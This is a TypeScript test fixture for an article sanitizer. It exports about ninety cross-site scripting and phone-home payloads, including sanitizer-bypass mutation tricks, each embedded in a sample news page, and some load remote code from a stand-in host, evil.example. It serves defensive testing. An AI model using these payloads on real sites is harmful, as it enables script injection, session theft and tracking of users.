/**
 * Script-injection and phone-home vectors, each embedded in an otherwise ordinary article page. Shared by the
 * engine tests (test/hostile/xss.test.ts) and the real-browser test (e2e/hostile.test.ts), so the same payloads
 * are proved inert in jsdom and in Chromium.
 *
 * A payload is a function of a Marker: `js` is a JavaScript expression (no quotes, so it fits any attribute or
 * URL) that records "vector N executed"; `url` is an absolute URL that records "vector N loaded something".
 * Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, and DOMPurify's own
 * bypass history (cure53/DOMPurify test/fixtures/expect.mjs, the 2.0.x mutation-XSS advisories).
 */

export interface Marker {
  /** A JavaScript expression without quotes, e.g. `__xss(12)`, that records that vector 12 ran. */
  js: string;
  /** An absolute URL, e.g. `http://127.0.0.1:4321/hit/12`, whose request records that vector 12 loaded. */
  url: string;
}

export interface XssVector {
  title: string;
  payload: (m: Marker) => string;
  /** Why it is here: what it attacks, or the bug that made it famous. */
  why: string;
  /** Where the payload goes: inside the article's body (default) or in the page's <head>. */
  where?: 'body' | 'head';
}

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

export const XSS_VECTORS: readonly XssVector[] = [
  // Script elements
  { title: 'inline script', payload: (m) => `<script>${m.js}</script>`, why: 'the baseline: a script tag in the article body' },
  { title: 'external script', payload: (m) => `<script src="${m.url}"></script>`, why: 'loads and runs a remote script' },
  { title: 'module script', payload: (m) => `<script type="module">${m.js}</script>`, why: 'type=module is a different code path from classic scripts' },
  { title: 'script split by a nested script tag', payload: (m) => `<scr<script>ipt>${m.js}</scr</script>ipt>`, why: 'naive filters that strip "<script>" once rebuild a script tag' },
  { title: 'JSON-LD breakout', payload: (m) => `<script type="application/ld+json">{"headline":"</script><img src=x onerror=${m.js}>"}</script>`, why: 'pruning keeps ld+json scripts for Readability; a string in it can close the tag early' },
  { title: 'script in head', payload: (m) => `<script>${m.js}</script>`, why: 'the head is not part of the article but is part of the page cloned', where: 'head' },
  { title: 'svg script', payload: (m) => `<svg><script>${m.js}</script></svg>`, why: 'SVG-namespace script elements run like HTML ones' },
  { title: 'svg script with href', payload: (m) => `<svg><script href="${m.url}"></script><script xlink:href="${m.url}"></script></svg>`, why: 'SVG scripts load from href and xlink:href, not src' },

  // Event-handler attributes
  { title: 'img onerror', payload: (m) => `<img src=x onerror=${m.js}>`, why: 'the most common XSS in the wild: a broken image with a handler' },
  { title: 'img onload on a data image', payload: (m) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${m.js}>`, why: 'fires without any network request' },
  { title: 'mixed-case handler', payload: (m) => `<img src=x OnErRoR=${m.js}>`, why: 'attribute names are case-insensitive; a case-sensitive filter misses it' },
  { title: 'slash-separated attributes', payload: (m) => `<img/src=x/onerror=${m.js}>`, why: 'the tokenizer accepts / between attributes' },
  { title: 'body onload from a second body tag', payload: (m) => `<body onload=${m.js}>`, why: 'a stray <body> merges its attributes into the real body' },
  { title: 'svg onload', payload: (m) => `<svg onload=${m.js}><circle r=1></circle></svg>`, why: 'SVG elements fire load without any resource' },
  { title: 'details ontoggle', payload: (m) => `<details open ontoggle=${m.js}><summary>More</summary>Hidden text</details>`, why: 'fires on its own when the element is open' },
  { title: 'video source onerror', payload: (m) => `<video><source onerror=${m.js}></video>`, why: 'a handler on a child media element' },
  { title: 'audio onerror', payload: (m) => `<audio src=x onerror=${m.js}></audio>`, why: 'media elements are kept by the sanitizer; their handlers must not be' },
  { title: 'paragraph onmouseover', payload: (m) => `<p onmouseover=${m.js} onclick=${m.js}>Hover this paragraph.</p>`, why: 'a handler on an element the article keeps' },
  { title: 'autofocus onfocus', payload: (m) => `<input autofocus onfocus=${m.js}><textarea autofocus onfocus=${m.js}></textarea>`, why: 'fires without user interaction' },
  { title: 'marquee onstart', payload: (m) => `<marquee onstart=${m.js}>Breaking</marquee>`, why: 'a legacy element with its own events' },
  { title: 'onanimationstart', payload: (m) => `<div style="animation:spin 1s" onanimationstart=${m.js}>Spin</div><style>@keyframes spin{}</style>`, why: 'CSS animation events run handlers without interaction' },
  { title: 'svg animate onbegin', payload: (m) => `<svg><animate onbegin=${m.js} attributeName=x dur=1s></animate></svg>`, why: 'SMIL timing events' },
  { title: 'handler after a quoted newline', payload: (m) => `<img src="x"\nonerror="${m.js}">`, why: 'whitespace other than a space separates attributes' },

  // javascript:, vbscript: and data: URLs
  { title: 'javascript: link', payload: (m) => `<a href="javascript:${m.js}">Read more</a>`, why: 'runs when the reader clicks' },
  { title: 'mixed-case javascript: link', payload: (m) => `<a href="JaVaScRiPt:${m.js}">Read more</a>`, why: 'schemes are case-insensitive' },
  { title: 'entity-encoded javascript: link', payload: (m) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${m.js}">Read more</a>`, why: 'entities are decoded before the URL is used' },
  { title: 'javascript: link with tab and newline', payload: (m) => `<a href="jav&#x09;ascr&#x0A;ipt:${m.js}">Read more</a>`, why: 'the URL parser strips tabs and newlines inside the scheme' },
  { title: 'javascript: link with leading control chars', payload: (m) => `<a href=" &#x01;&#x20;javascript:${m.js}">Read more</a>`, why: 'leading C0 controls and spaces are stripped by the URL parser' },
  { title: 'javascript&colon; named entity', payload: (m) => `<a href="javascript&colon;${m.js}">Read more</a>`, why: 'HTML5 named entity for the colon' },
  { title: 'vbscript: link', payload: () => `<a href="vbscript:msgbox(1)">Read more</a>`, why: 'the old IE scheme; still must not survive' },
  { title: 'data:text/html link', payload: (m) => `<a href="data:text/html;base64,${b64(`<script>${m.js}</script>`)}">Read more</a>`, why: 'a data: document carries its own script' },
  { title: 'javascript: area', payload: (m) => `<map name=m><area shape=rect coords=0,0,9,9 href="javascript:${m.js}"></map>`, why: 'area is a link too' },
  { title: 'svg a xlink:href', payload: (m) => `<svg><a xlink:href="javascript:${m.js}"><text x=1 y=9>link</text></a></svg>`, why: 'SVG links use xlink:href' },
  { title: 'math href', payload: (m) => `<math href="javascript:${m.js}"><mi>x</mi></math>`, why: 'MathML elements can be links (Firefox)' },
  { title: 'math maction xlink:href', payload: (m) => `<math><maction actiontype="statusline" xlink:href="javascript:${m.js}"><mtext>x</mtext></maction></math>`, why: 'MathML link attribute in a namespace' },
  { title: 'svg set to javascript:', payload: (m) => `<svg><a><set attributeName=href to="javascript:${m.js}"></set><text x=1 y=9>x</text></a></svg>`, why: 'SMIL sets the href after sanitizing' },
  { title: 'video poster javascript:', payload: (m) => `<video poster="javascript:${m.js}"></video>`, why: 'URL attribute on a kept media element' },
  { title: 'img src javascript:', payload: (m) => `<img src="javascript:${m.js}">`, why: 'legacy browsers ran it; the URL must go anyway' },

  // Frames, srcdoc, object, embed
  { title: 'iframe javascript:', payload: (m) => `<iframe src="javascript:${m.js}"></iframe>`, why: 'the frame runs the URL in the page origin' },
  { title: 'iframe data:', payload: (m) => `<iframe src="data:text/html,<script>${m.js}</script>"></iframe>`, why: 'a data: document in a frame' },
  { title: 'iframe srcdoc', payload: (m) => `<iframe srcdoc="<script>${m.js}</script><img src=x onerror=${m.js}>"></iframe>`, why: 'srcdoc is a whole document in an attribute, same origin' },
  { title: 'iframe to a remote page', payload: (m) => `<iframe src="${m.url}"></iframe>`, why: 'phones home and embeds a third party' },
  { title: 'object data javascript:', payload: (m) => `<object data="javascript:${m.js}"></object>`, why: 'object loads any URL' },
  { title: 'object data remote', payload: (m) => `<object data="${m.url}" type="text/html"></object>`, why: 'loads a remote document' },
  { title: 'embed svg data:', payload: (m) => `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${m.js}"/>`)}">`, why: 'an SVG document with a handler, embedded' },
  { title: 'embed remote', payload: (m) => `<embed src="${m.url}">`, why: 'loads a plugin or document' },
  { title: 'svg foreignObject iframe', payload: (m) => `<svg><foreignObject><iframe src="javascript:${m.js}"></iframe></foreignObject></svg>`, why: 'HTML inside SVG through foreignObject' },

  // Base, meta refresh, forms
  { title: 'base href javascript:', payload: (m) => `<base href="javascript:${m.js}//">`, why: 'rebases every relative link onto a script URL', where: 'head' },
  { title: 'base href remote', payload: (m) => `<base href="${m.url}/">`, why: 'rebases relative links and images onto the attacker', where: 'head' },
  { title: 'base href in body', payload: (m) => `<base href="${m.url}/"><a href="relative-link">relative</a>`, why: 'a base in the body still applies in browsers' },
  { title: 'meta refresh javascript:', payload: (m) => `<meta http-equiv="refresh" content="0;url=javascript:${m.js}">`, why: 'refresh to a script URL', where: 'head' },
  { title: 'meta refresh remote', payload: (m) => `<meta http-equiv="refresh" content="0;url=${m.url}">`, why: 'navigates the view away' },
  { title: 'form action javascript:', payload: (m) => `<form action="javascript:${m.js}"><button>Subscribe</button></form>`, why: 'a form that runs script on submit' },
  { title: 'button formaction', payload: (m) => `<button form=f formaction="javascript:${m.js}">Go</button><form id=f></form>`, why: 'formaction overrides the form action' },
  { title: 'input type=image remote', payload: (m) => `<input type=image src="${m.url}">`, why: 'a form control that loads an image' },

  // CSS that phones home
  { title: 'style attribute url()', payload: (m) => `<p style="background:url(${m.url})">Styled paragraph.</p>`, why: 'inline CSS loads a tracking pixel' },
  { title: 'style attribute quoted url()', payload: (m) => `<div style="background-image:url(&quot;${m.url}&quot;)">Styled block.</div>`, why: 'entity-quoted URL inside a style attribute' },
  { title: 'style tag url()', payload: (m) => `<style>body{background:url(${m.url})}</style>`, why: 'a stylesheet in the body' },
  { title: 'style tag @import', payload: (m) => `<style>@import "${m.url}";</style>`, why: 'imports a remote stylesheet' },
  { title: 'style tag in head', payload: (m) => `<style>@import url(${m.url});</style>`, why: 'head styles are part of the cloned page', where: 'head' },
  { title: 'link stylesheet', payload: (m) => `<link rel=stylesheet href="${m.url}">`, why: 'a remote stylesheet', where: 'head' },
  { title: 'link preload in body', payload: (m) => `<link rel=preload as=image href="${m.url}"><link rel=prefetch href="${m.url}">`, why: 'resource hints fetch without rendering' },
  { title: 'svg style @import', payload: (m) => `<svg><style>@import url(${m.url});</style></svg>`, why: 'SVG-namespace style element' },
  { title: 'table background', payload: (m) => `<table background="${m.url}"><tr><td>Cell text in a table.</td></tr></table>`, why: 'a presentational attribute that loads an image' },
  { title: 'css expression()', payload: (m) => `<div style="width:expression(${m.js})">Old IE</div>`, why: 'IE ran expressions; the style must go anyway' },
  { title: 'img srcset remote', payload: (m) => `<img alt="" srcset="${m.url} 1x">`, why: 'srcset is forbidden by our config: it picks images the reader did not see' },
  { title: 'a ping', payload: (m) => `<a href="https://example.org/" ping="${m.url}">A link</a>`, why: 'ping reports every click to a third party' },

  // Template, noscript and other raw-text tricks (mutation XSS)
  { title: 'template content', payload: (m) => `<template><img src=x onerror=${m.js}><script>${m.js}</script></template>`, why: 'template content is inert until someone clones it' },
  { title: 'declarative shadow root', payload: (m) => `<div><template shadowrootmode="open"><img src=x onerror=${m.js}><style>@import "${m.url}";</style></template>Host text</div>`, why: 'parsed into a live shadow root, invisible to querySelectorAll' },
  { title: 'noscript title breakout', payload: (m) => `<noscript><p title="</noscript><img src=x onerror=${m.js}>">Noscript text</p></noscript>`, why: 'DOMPurify < 2.0.1: parsed differently with scripting on and off' },
  { title: 'xmp breakout', payload: (m) => `<xmp><p title="</xmp><img src=x onerror=${m.js}>">`, why: 'raw-text element: the attribute becomes markup when re-parsed' },
  { title: 'noembed breakout', payload: (m) => `<noembed><p title="</noembed><img src=x onerror=${m.js}>">`, why: 'raw-text element in browsers' },
  { title: 'noframes breakout', payload: (m) => `<noframes><p title="</noframes><img src=x onerror=${m.js}>">`, why: 'raw-text element in browsers' },
  { title: 'svg style breakout', payload: (m) => `<svg></p><style><a id="</style><img src=1 onerror=${m.js}>">`, why: 'DOMPurify 2.0.0: style content is text in HTML but markup in SVG' },
  { title: 'math mglyph style', payload: (m) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${m.js}&gt;"></mglyph></table></mtext></math>`, why: 'DOMPurify 2.0.17 namespace-confusion bypass (CVE-2020-26870)' },
  { title: 'form in math mtext', payload: (m) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${m.js}></style></mglyph></form></mtext></math></form>`, why: 'nested-form mutation XSS (Bentkowski, 2020)' },
  { title: 'svg p style img', payload: (m) => `<svg><p><style><img src=x onerror=${m.js}></style></p></svg>`, why: 'an HTML p inside SVG breaks out of the foreign namespace' },
  { title: 'comment breakout in attribute', payload: (m) => `<!--><img src=x onerror=${m.js}>-->`, why: 'abruptly closed comment' },
  { title: 'CDATA in svg', payload: (m) => `<svg><![CDATA[><img src=x onerror=${m.js}>]]></svg>`, why: 'CDATA is only CDATA in foreign content' },
  { title: 'textarea breakout', payload: (m) => `<textarea><img title="</textarea><img src=x onerror=${m.js}>"></textarea>`, why: 'RCDATA element closed inside an attribute' },

  // DOM clobbering and script gadgets
  { title: 'clobber document.getElementById', payload: () => `<img name="getElementById"><img name="cookie">`, why: 'named img elements shadow document properties' },
  { title: 'clobber form attributes', payload: () => `<form id="attributes"><input name="attributes"></form>`, why: 'clobbers Element.attributes, which sanitizers walk' },
  { title: 'clobber window globals', payload: () => `<a id="defaultView"></a><a id="body" name="body"></a><a id="location" href="https://example.org/">x</a>`, why: 'ids become window and document properties' },
  { title: 'clobber __proto__ and chrome', payload: () => `<a id="__proto__">a</a><a id="chrome">b</a><a name="browser">c</a>`, why: 'extension code reads chrome and browser globals' },
  { title: 'data-* script gadget', payload: (m) => `<div data-bind="html: ${m.js}" data-ng-init="${m.js}">Gadget</div>`, why: 'frameworks on a host page evaluate data attributes (knockout, AngularJS)' },
  { title: 'is attribute', payload: () => `<p is="x-gadget">Custom built-in</p>`, why: 'customized built-ins upgrade into page-defined code' },
];

/** The vector's page: a plain news article with the payload inside it, long enough for Readability. */
export function articlePage(vectors: readonly { payload: string; where?: 'body' | 'head'; label: string }[]): string {
  const head = vectors.filter((v) => v.where === 'head').map((v) => v.payload).join('\n');
  const body = vectors
    .filter((v) => v.where !== 'head')
    .map((v) => `<p>Before ${v.label}: the council met on Tuesday evening to vote on the budget.</p>\n${v.payload}\n<p>After ${v.label}: the members agreed to return next week.</p>`)
    .join('\n');
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Council approves the harbour budget after a long night</title>
${head}
</head>
<body>
<header><a href="/">The Harbour Gazette</a></header>
<main>
<article>
<h1>Council approves the harbour budget after a long night</h1>
<p class="byline">By Ana Lopes</p>
<p>The city council approved the harbour budget late on Tuesday after a debate that lasted more than six hours and drew residents from every district of the town.</p>
<p>Supporters said the money would repair the old sea wall, dredge the northern channel and pay for two new ferry landings that fishermen have demanded for a decade.</p>
${body}
<p>Opponents argued that the plan leaned too heavily on borrowing and that the ferry landings should wait until the sea wall was finished, which engineers expect to take three years.</p>
<p>The mayor said the vote showed the town could still agree on big things, and promised quarterly reports on how the money is spent.</p>
</article>
</main>
<footer>© The Harbour Gazette</footer>
</body>
</html>`;
}

/** Marker for the engine tests: nothing here is ever fetched or run, but it is recognisable in the output. */
export const engineMarker = (i: number): Marker => ({ js: `__xss(${i})`, url: `https://evil.example/hit/${i}` });
